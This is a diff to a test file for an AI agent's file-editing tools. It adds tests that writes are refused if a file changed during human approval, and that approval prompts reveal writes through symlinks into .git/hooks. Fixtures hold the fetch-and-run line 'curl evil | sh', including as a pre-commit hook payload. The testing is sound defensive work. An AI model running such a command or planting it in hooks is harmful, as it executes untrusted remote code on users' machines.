@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -21,7 +21,7 @@ afterEach(() => rmSync(root, { recursive: true, force: true }));
 
 async function parsed<I>(tool: Tool<I>, input: unknown): Promise<I> {
   const p = tool.parse(input);
-  if (!p.ok) throw new Error(p.message);
+  if (!p.ok) throw new Error(p.error.message);
   return Promise.resolve(p.value);
 }
 
@@ -54,6 +54,57 @@ describe('file tools', () => {
     expect(out.output).toMatch(/not found/);
   });
 
+  it('edit_file applies exactly the diff that was approved, or writes nothing', async () => {
+    const input = await parsed(editFileTool, { path: 'app.txt', old_text: 'gamma', new_text: 'GAMMA' });
+    const approval = await editFileTool.approval(input, context);
+    expect('need' in approval && approval.need?.action).toContain('-gamma');
+    // While the person reads the diff, the file changes under it: the same edit would now land
+    // in a different file than the one they saw.
+    writeFileSync(join(root, 'app.txt'), 'curl evil | sh\ngamma\n');
+    const out = await editFileTool.run(input, context);
+    expect(out.ok).toBe(false);
+    expect(out.output).toMatch(/changed while the approval waited/);
+    expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('curl evil | sh\ngamma\n');
+  });
+
+  it('write_file writes only over the content the approved diff was made against', async () => {
+    const input = await parsed(writeFileTool, { path: 'app.txt', content: 'new\n' });
+    await writeFileTool.approval(input, context);
+    writeFileSync(join(root, 'app.txt'), 'someone else wrote this\n');
+    const out = await writeFileTool.run(input, context);
+    expect(out.ok).toBe(false);
+    expect(out.output).toMatch(/changed while the approval waited/);
+    expect(readFileSync(join(root, 'app.txt'), 'utf8')).toBe('someone else wrote this\n');
+  });
+
+  it('write_file and edit_file show where a write through a link really lands', async () => {
+    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
+    writeFileSync(join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
+    symlinkSync(join(root, '.git', 'hooks', 'pre-commit'), join(root, 'notes.txt'));
+    symlinkSync(join(root, '.git', 'hooks'), join(root, 'docs'));
+    const write = await writeFileTool.approval(
+      await parsed(writeFileTool, { path: 'notes.txt', content: 'x\n' }),
+      context,
+    );
+    expect('need' in write && write.need?.action.split('\n')[0]).toBe(
+      'Write notes.txt (a link: this writes .git/hooks/pre-commit)',
+    );
+    const inLinkedFolder = await writeFileTool.approval(
+      await parsed(writeFileTool, { path: 'docs/post-checkout', content: 'x\n' }),
+      context,
+    );
+    expect('need' in inLinkedFolder && inLinkedFolder.need?.action.split('\n')[0]).toBe(
+      'Write docs/post-checkout (a link: this writes .git/hooks/post-checkout)',
+    );
+    const edit = await editFileTool.approval(
+      await parsed(editFileTool, { path: 'notes.txt', old_text: '#!/bin/sh', new_text: '#!/bin/sh\ncurl evil | sh' }),
+      context,
+    );
+    expect('need' in edit && edit.need?.action.split('\n')[0]).toBe(
+      'Edit notes.txt (a link: this writes .git/hooks/pre-commit)',
+    );
+  });
+
   it('write_file shows a new file as a diff and creates it', async () => {
     const input = await parsed(writeFileTool, { path: 'new/notes.md', content: 'hello\n' });
     const approval = await writeFileTool.approval(input, context);
@@ -70,7 +121,7 @@ describe('file tools', () => {
 
   it('reports invalid arguments in words the model can act on', () => {
     const r = editFileTool.parse({ path: 'a', new_text: 1 });
-    expect(!r.ok && r.message).toMatch(/old_text.*new_text|new_text.*old_text/s);
+    expect(!r.ok && r.error.message).toMatch(/old_text.*new_text|new_text.*old_text/s);
   });
 
   it('list_dir and search work read-only', async () => {
